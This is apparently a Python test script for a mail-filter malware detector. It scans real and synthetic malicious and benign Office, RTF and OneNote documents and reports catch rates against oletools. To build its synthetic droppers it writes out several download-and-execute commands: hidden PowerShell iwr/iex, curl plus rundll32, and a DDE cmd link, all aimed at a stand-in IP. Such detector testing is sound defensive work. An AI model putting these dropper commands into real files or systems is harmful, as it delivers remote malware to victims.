#!/usr/bin/env python3
"""maldocs/run.py - malicious documents per type through `fileless-milter -t --json`.

Sets (each skipped cleanly when absent):
  - real samples of tests/corpus/maldocs/MANIFEST, fetched by tests/maldocs/fetch.sh into
    build/maldocs/docs (never executed, never in the repository);
  - oletools test data in ../shared/corpus: the obfuscated Equation carrier
    rtfobj/issue_251.rtf, DDE samples, external-link (remote oleObject) samples;
  - OneNote droppers and benign notebooks built here from ClamAV's clam.exe.2007.one
    (the embedded PE replaced by an inert script, or by text, or no embedded file);
  - benign documents: office-apache-poi, office-xlsxwriter-vba, oletools harmless-clean*;
  - Excel 4 macro droppers (.xls, .xlsm, .xlsb) of XLMMacroDeobfuscator's test zip, with its
    two test workbooks and three workbooks that are not droppers on inspection (XLM_NOT_DROPPERS)
    as benign (fetch.sh: build/maldocs/xlm; types xlm-xls/xlm-xlsm/xlm-xlsb);
  - benign notebooks of onenote.rs and one-extract (build/maldocs/one), and a dropper
    derived from one-extract's example.one (its PNG replaced by an inert .cmd);
  - a generated .xlsb with a DDE external link (type dde) and its twin without one.
Each document is wrapped in a mail. caught = quarantine or reject. mraptor and rtfobj
(a fetched oletools checkout in build/oletools run with Debian's /usr/bin/python3 and
python3-olefile) are compared where they run.

Checks (the issue's "done when"): every VBA document mraptor flags is caught; RTF exploit
carriers, Excel 4 droppers and OneNote droppers are caught; no benign document or notebook reaches
quarantine; benign notebooks are not tagged. Writes tests/out/maldocs.md.
Prints "@@ maldocs passed=N failed=M skipped=K".
"""
import base64, glob, json, os, re, subprocess, sys, tempfile

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
os.chdir(ROOT)
BIN = os.environ.get("FM_BIN", "milter/fileless-milter")
CORPUS = os.environ.get("FM_CORPUS", "../shared/corpus")
MAL = os.environ.get("FM_MALDOCS", "build/maldocs") + "/docs"
XLMDIR = os.environ.get("FM_MALDOCS", "build/maldocs") + "/xlm"
ONEDIR = os.environ.get("FM_MALDOCS", "build/maldocs") + "/one"
OLETOOLS = os.environ.get("FM_OLETOOLS", "build/oletools")
OLETOOLS_GIT = os.environ.get("FM_OLETOOLS_GIT", "/work/.mirror/decalage2+oletools/repo")
R = {"passed": 0, "failed": 0, "skipped": 0}
ORDER = {"clean": 0, "tag": 1, "quarantine": 2, "reject": 3}
# Workbooks of XLMMacroDeobfuscator's test zip that are not droppers on inspection (they
# count as benign: none may reach quarantine):
# - 179ef…xls: an .xlsb "AP invoices paid over 25k" export (public-sector spending report);
#   its macro sheet is 13k RUN/formatting command formulas: no EXEC, CALL, REGISTER, no URL
#   or file name anywhere in the workbook (shared strings are the report's rows);
# - 63bacd…xlsm: a 1996 Village Software Excel template: the stock Template Wizard stub
#   (OPEN(WZTEMPLT.XLA), RUN(…AutoOpenFromTemplate)) and toolbar/numbering VBA without
#   Shell, CreateObject, URL or CALL (mraptor flags it for Application.Run + SaveAs);
# - xlsb-dir_6644…xlsm: a commercial spreadsheet protected by "VBA RC Toolkit": Workbook_Open
#   unhides sheets and looks for password-cracker processes through WMI; no macro sheet.
XLM_NOT_DROPPERS = {
    "179ef8970e996201815025c1390c88e1ab2ea59733e1c38ec5dbed9326d7242a.xls",
    "63bacd873beeca6692142df432520614a1641ea395adaabc705152c55ab8c1d7.xlsm",
    "xlsb-dir_6644bcba091c3104aebc0eab93d4247a884028aad389803d71f26541df325cf8.xlsm",
}
VBA_TYPES = ("doc", "xls", "docx", "xlsx", "docm", "xlsm", "dotm", "xlsb", "ppt", "pptm")


def check(name, cond, why=""):
    R["passed" if cond else "failed"] += 1
    print(("ok   %s" if cond else "FAIL %s: " + str(why)) % name)


def skip(name, why):
    R["skipped"] += 1
    print("skip %s: %s" % (name, why))


def attach(name, data):
    b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
    return ("From: a@example.org\r\nTo: b@example.net\r\nSubject: document\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\n"
            "Please see the attached document.\r\n--BB\r\nContent-Type: application/octet-stream; "
            "name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n%s--BB--\r\n" % (name, name, b64)).encode()


def scan(items, tmp):
    """items: (name, bytes) -> list of (verdict, score, symbols)"""
    paths = []
    for i, (name, data) in enumerate(items):
        p = os.path.join(tmp, "m%d.eml" % i)
        with open(p, "wb") as f:
            f.write(attach(name, data))
        paths.append(p)
    out = []
    for i in range(0, len(paths), 40):
        p = subprocess.run([BIN, "-c", "milter.conf", "-t", "--json"] + paths[i:i + 40],
                           capture_output=True, text=True)
        for line in p.stdout.split("\n"):
            if line.strip():
                o = json.loads(line)
                out.append((o["verdict"], o["score"], sorted(set(h["symbol"] for h in o["hits"]))))
    return out


# ---- OneNote samples built from ClamAV's notebook ----
FDSO_H = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
FDSO_F = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")


def one_variant(base, content, old_name, new_name):
    """the notebook with its MZ blob replaced by content and the UTF-16 name renamed"""
    i = base.find(FDSO_H)
    while i >= 0:
        n = int.from_bytes(base[i + 16:i + 24], "little")
        if base[i + 36:i + 38] == b"MZ":
            end = i + ((36 + n + 7) & ~7) + 16
            blob = b""
            if content is not None:
                ln = len(content)
                blob = (FDSO_H + ln.to_bytes(8, "little") + bytes(12) + content +
                        bytes(((36 + ln + 7) & ~7) - 36 - ln) + FDSO_F)
            out = base[:i] + blob + base[end:]
            return out.replace(old_name.encode("utf-16le"), new_name.encode("utf-16le"))
        i = base.find(FDSO_H, i + 16)
    return None


def onenote_sets():
    src = os.path.join(CORPUS, "clamav-unittest-input/scanfiles_decoded/clam.exe.2007.one")
    if not os.path.exists(src):
        return [], []
    base = open(src, "rb").read()
    cmd = (b"@echo off\r\nrem INERT test sample built by tests/maldocs/run.py; never executed\r\n"
           b"powershell -w hidden -nop -c \"iwr http://198.51.100.7/p.ps1 -o %TEMP%\\p.ps1\"\r\n"
           b"start /min cmd /c %TEMP%\\p.ps1\r\n")
    hta = (b"<html><head><hta:application id=\"x\" windowstate=\"minimize\"/></head><body>"
           b"<script language=\"VBScript\">' INERT test sample built by tests/maldocs/run.py\r\n"
           b"Set s = CreateObject(\"WScript.Shell\")\r\n"
           b"s.Run \"powershell -w hidden -c iex (iwr http://198.51.100.7/a)\", 0\r\n"
           b"self.close</script></body></html>\r\n")
    mal = [("one", "clam.exe.2007.one (embedded PE)", base),
           ("one", "synthetic .one with Invoice.cmd", one_variant(base, cmd, "clam.exe", "clam.cmd")),
           ("one", "synthetic .one with Invoice.hta", one_variant(base, hta, "clam.exe", "clam.hta"))]
    ben = [("one", "notebook with an embedded text file",
            one_variant(base, b"Minutes of the meeting\r\nAll fine.\r\n" * 20, "clam.exe", "clam.txt")),
           ("one", "notebook without embedded files", one_variant(base, None, "clam.exe", "clam.txt"))]
    return [m for m in mal if m[2]], [b for b in ben if b[2]]


def real_onenote_sets():
    """benign notebooks of parser test suites (fetch.sh: build/maldocs/one), and droppers
    built from the one with an embedded file (volexity's example.one: its PNG replaced by
    an inert script under a script name)"""
    ben = [("one", f, open(f, "rb").read()) for f in sorted(glob.glob(ONEDIR + "/*.one"))]
    mal = []
    for t, f, d in ben:
        if "volexity_example" not in f:
            continue
        i = d.find(FDSO_H)
        n = int.from_bytes(d[i + 16:i + 24], "little") if i >= 0 else 0
        if i < 0 or d[i + 36:i + 44] != b"\x89PNG\r\n\x1a\n":
            continue
        cmd = (b"@echo off\r\nrem INERT test sample built by tests/maldocs/run.py; never executed\r\n"
               b"curl -s -o %TEMP%\\u.dll http://198.51.100.7/u.dll && rundll32 %TEMP%\\u.dll,Start\r\n")
        blob = cmd + b" " * (n - len(cmd)) if len(cmd) <= n else None
        if blob is None:
            continue
        out = d[:i + 36] + blob + d[i + 36 + n:]
        out = out.replace("clip_image013.png".encode("utf-16le"), "clip_invoice1.cmd".encode("utf-16le"))
        mal.append(("one", "example.one with clip_invoice1.cmd (derived)", out))
    return mal, ben


def xlsb_dde():
    """a minimal .xlsb (MS-XLSB 2.1.4) whose external link part is a DDE link cmd|'/c ...'
    and whose sheet cell refers to it, and the same workbook without the link (benign)"""
    import io, zipfile

    def rec(t, body):
        h = bytes([t & 0x7f | 0x80, t >> 7]) if t > 0x7f else bytes([t])
        n, sz = len(body), b""
        while True:
            sz += bytes([n & 0x7f | (0x80 if n > 0x7f else 0)])
            n >>= 7
            if not n:
                break
        return h + sz + body

    def ws(s):
        return len(s).to_bytes(4, "little") + s.encode("utf-16le")
    le = lambda v, k=4: v.to_bytes(k, "little")
    wb = rec(131, b"") + rec(143, b"") + rec(156, le(0) + le(1) + ws("rId1") + ws("Sheet1")) + \
        rec(144, b"") + rec(132, b"")
    # A1: a BrtFmlaNum whose formula is a ptgNameX into the DDE link (ixti 0, name 1)
    sheet = rec(129, b"") + rec(145, b"") + rec(0, le(0) + bytes(21)) + \
        rec(9, le(0) + le(0) + bytes(8) + b"\0\0" + le(7) + b"\x39" + le(0, 2) + le(1) + le(0)) + \
        rec(146, b"") + rec(130, b"")
    link = rec(360, le(1, 2) + ws("cmd") + ws("/c powershell -w hidden iwr http://198.51.100.7/a -o a.exe;a.exe")) + \
        rec(361, b"")
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org'
          '/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.'
          'binary.macroEnabled.main"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
          'package.relationships+xml"/><Override PartName="/xl/worksheets/sheet1.bin" ContentType="application/'
          'vnd.ms-excel.worksheet"/>%s</Types>')
    wrel = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.bin"/>%s'
            '</Relationships>')
    root = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.bin"/>'
            '</Relationships>')
    out = []
    for dde in (True, False):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("[Content_Types].xml", ct % ('<Override PartName="/xl/externalLinks/externalLink1.bin" '
                       'ContentType="application/vnd.ms-excel.externalLink"/>' if dde else ""))
            z.writestr("_rels/.rels", root)
            z.writestr("xl/workbook.bin", wb)
            z.writestr("xl/_rels/workbook.bin.rels", wrel % ('<Relationship Id="rId2" Type="http://schemas.'
                       'openxmlformats.org/officeDocument/2006/relationships/externalLink" Target='
                       '"externalLinks/externalLink1.bin"/>' if dde else ""))
            z.writestr("xl/worksheets/sheet1.bin", sheet)
            if dde:
                z.writestr("xl/externalLinks/externalLink1.bin", link)
        out.append(b.getvalue())
    return out


def ext_of(path):
    e = path.rsplit(".", 1)[-1].lower()
    return {"dot": "doc", "xlt": "xls", "xltm": "xlsm", "dotm": "docm"}.get(e, e)


def sets():
    """(type, name, bytes) for malicious and benign documents"""
    mal, ben = [], []
    for f in sorted(glob.glob(MAL + "/*")):
        t = ext_of(f)
        if t in ("doc", "xls", "docx", "xlsx", "rtf", "one"):
            mal.append((t, f, open(f, "rb").read()))
    o = os.path.join(CORPUS, "oletools/test-data")
    for f in [o + "/rtfobj/issue_251.rtf"]:
        if os.path.exists(f):
            mal.append(("rtf", f, open(f, "rb").read()))
    for f in sorted(glob.glob(o + "/msodde/dde-*")):
        if not f.endswith(".zip"):
            mal.append(("dde", f, open(f, "rb").read()))
    for f in sorted(glob.glob(o + "/oleobj/external_link/*.docx") + glob.glob(o + "/oleobj/external_link/*.xlsx")):
        mal.append(("remote", f, open(f, "rb").read()))
    om, ob = onenote_sets()
    mal += om
    ben += ob
    om, ob = real_onenote_sets()
    mal += om
    ben += ob
    for f in sorted(glob.glob(XLMDIR + "/*.xls*")):  # Excel 4 droppers; the tool's test workbooks
        t = "xlm-" + f.rsplit(".", 1)[-1]
        b = os.path.basename(f)
        (ben if re.match(r"(sum|addressings)\.", b) or b in XLM_NOT_DROPPERS else mal).append(
            (t, f, open(f, "rb").read()))
    dde, plain = xlsb_dde()
    mal.append(("dde", "synthetic dde-link.xlsb", dde))
    ben.append(("xlsb", "synthetic plain.xlsb", plain))
    for pat in ["office-apache-poi/**/*", "office-xlsxwriter-vba/**/*.xlsm", "oletools/test-data/**/harmless-clean*"]:
        for f in sorted(glob.glob(os.path.join(CORPUS, pat), recursive=True)):
            t = ext_of(f)
            if os.path.isfile(f) and t in VBA_TYPES + ("rtf", "one", "xml") and "password" not in f.lower() \
                    and "protect" not in f.lower() and "encrypt" not in f.lower():
                ben.append((t, f, open(f, "rb").read()))
    return mal, ben


def oletools_ready():
    if os.path.exists(OLETOOLS + "/oletools/mraptor.py"):
        return True
    if not os.path.isdir(OLETOOLS_GIT):
        return False
    os.makedirs(OLETOOLS, exist_ok=True)
    return subprocess.run(["git", "--git-dir=" + OLETOOLS_GIT, "--work-tree=" + OLETOOLS, "checkout", "-f",
                           "HEAD", "--", "oletools"], capture_output=True).returncode == 0


def run_tool(mod, paths):
    """oletools module over files: path -> its output lines (mraptor: one table row per
    file, run in batches; rtfobj: one run per file)"""
    env = dict(os.environ, PYTHONPATH=OLETOOLS)
    res = {}
    step = 60 if mod == "mraptor" else 1
    for i in range(0, len(paths), step):
        batch = paths[i:i + step]
        try:
            r = subprocess.run(["/usr/bin/python3", "-m", "oletools." + mod] + batch, capture_output=True,
                               text=True, env=env, timeout=600)
            out = r.stdout + r.stderr
        except subprocess.TimeoutExpired:
            out = ""
        for p in batch:
            res[p] = "\n".join(l for l in out.split("\n") if p in l) if step > 1 else out
    return res


def main():
    if not os.access(BIN, os.X_OK):
        print("@@ maldocs passed=0 failed=1 skipped=0 (no %s)" % BIN)
        return 1
    mal, ben = sets()
    if not mal:
        skip("maldocs", "no samples (run tests/maldocs/fetch.sh; ../shared/corpus absent?)")
        print("@@ maldocs passed=0 failed=0 skipped=1")
        return 0
    tmp = tempfile.mkdtemp(prefix="fm-maldocs-")
    rm = scan([(os.path.basename(n).replace(" ", "_") if "/" in n else n.split()[-1], d) for t, n, d in mal], tmp)
    rb = scan([(os.path.basename(n) if "/" in n else n.split()[-1] if t != "one" else "notebook.one", d)
               for t, n, d in ben], tmp)
    mr, rt = {}, {}
    have_ole = oletools_ready() and subprocess.run(["/usr/bin/python3", "-c", "import olefile, colorclass"],
                                                   capture_output=True).returncode == 0
    if have_ole:
        vba = [n for t, n, d in mal if t in ("doc", "xls", "docx", "xlsx") and os.path.exists(n)]
        cache = os.path.join(os.path.dirname(MAL), "mraptor.tsv")  # results per file, kept
        if os.path.exists(cache):
            for line in open(cache):
                p, v = line.rstrip("\n").split("\t")
                mr[p] = v == "1"
        todo = [p for p in vba if p not in mr]
        for p, out in run_tool("mraptor", todo).items():
            mr[p] = "SUSPICIOUS" in out
        if todo and os.path.isdir(os.path.dirname(cache)):
            with open(cache, "w") as f:
                f.writelines("%s\t%d\n" % (p, v) for p, v in mr.items())
        rtf = [n for t, n, d in mal if t == "rtf" and os.path.exists(n)]
        for p, out in run_tool("rtfobj", rtf).items():
            rt[p] = "exploit" in out.lower() or "equation" in out.lower()
    else:
        skip("mraptor/rtfobj", "oletools checkout or python3-olefile/python3-colorclass unavailable")
    # per-type table
    types = {}
    for (t, n, d), (v, s, syms) in zip(mal, rm):
        e = types.setdefault(t, {"n": 0, "caught": 0, "tag": 0, "clean": 0, "mr": 0, "mr_caught": 0,
                                 "rt": 0, "miss": []})
        e["n"] += 1
        e["caught" if ORDER[v] >= 2 else "tag" if v == "tag" else "clean"] += 1
        if mr.get(n):
            e["mr"] += 1
            e["mr_caught"] += ORDER[v] >= 2
        if rt.get(n):
            e["rt"] += 1
        if ORDER[v] < 2:
            e["miss"].append("%s %s %.1f %s" % (os.path.basename(n), v, s, " ".join(syms)))
    bt = {}
    for (t, n, d), (v, s, syms) in zip(ben, rb):
        e = bt.setdefault(t, {"n": 0, "tag": 0, "q": 0, "fp": []})
        e["n"] += 1
        e["tag"] += ORDER[v] >= 1
        e["q"] += ORDER[v] >= 2
        if ORDER[v] >= 1:
            e["fp"].append("%s %s %.1f %s" % (os.path.basename(n) if "/" in n else n, v, s, " ".join(syms)))
    md = ["# Malicious documents per type (tests/maldocs/run.py)", "",
          "caught = quarantine or reject; mraptor/rtfobj: oletools %s" % ("run" if have_ole else "not available"),
          "", "| type | files | caught | tagged | clean | mraptor flags | of those caught | rtfobj flags |",
          "|---|---|---|---|---|---|---|---|"]
    for t, e in sorted(types.items()):
        md.append("| %s | %d | %d | %d | %d | %s | %s | %s |" % (
            t, e["n"], e["caught"], e["tag"], e["clean"], e["mr"] if have_ole and t in ("doc", "xls", "docx", "xlsx") else "–",
            e["mr_caught"] if have_ole and t in ("doc", "xls", "docx", "xlsx") else "–",
            e["rt"] if have_ole and t == "rtf" else "–"))
    md += ["", "Benign documents:", "", "| type | files | tag or above | quarantine or above |", "|---|---|---|---|"]
    for t, e in sorted(bt.items()):
        md.append("| %s | %d | %d | %d |" % (t, e["n"], e["tag"], e["q"]))
    md += ["", "## Not caught (malicious)", ""] + ["- " + m for e in types.values() for m in e["miss"]]
    md += ["", "## Benign at tag or above", ""] + ["- " + m for e in bt.values() for m in e["fp"]]
    os.makedirs("tests/out", exist_ok=True)
    with open("tests/out/maldocs.md", "w") as f:
        f.write("\n".join(md) + "\n")
    print("\n".join(md[:40]))
    # checks
    for t, e in sorted(types.items()):
        if have_ole and t in ("doc", "xls", "docx", "xlsx"):
            check("%s: every document mraptor flags is caught (%d of %d)" % (t, e["mr_caught"], e["mr"]),
                  e["mr_caught"] == e["mr"], "; ".join(e["miss"][:5]))
        if t.startswith("xlm-"):
            check("%s: every Excel 4 dropper is caught (%d of %d)" % (t, e["caught"], e["n"]),
                  e["caught"] == e["n"], "; ".join(e["miss"][:5]))
        if t in ("rtf", "one", "dde"):
            check("%s: every carrier/dropper is caught (%d of %d)" % (t, e["caught"], e["n"]),
                  e["caught"] == e["n"], "; ".join(e["miss"][:5]))
    for t, e in sorted(bt.items()):
        check("benign %s: none at quarantine (%d of %d)" % (t, e["q"], e["n"]), e["q"] == 0,
              "; ".join(e["fp"][:5]))
        if t == "one":
            check("benign notebooks: none tagged (%d of %d)" % (e["tag"], e["n"]), e["tag"] == 0,
                  "; ".join(e["fp"]))
    subprocess.run(["rm", "-rf", tmp])
    print("@@ maldocs passed=%d failed=%d skipped=%d" % (R["passed"], R["failed"], R["skipped"]))
    return 1 if R["failed"] else 0


if __name__ == "__main__":
    sys.exit(main())
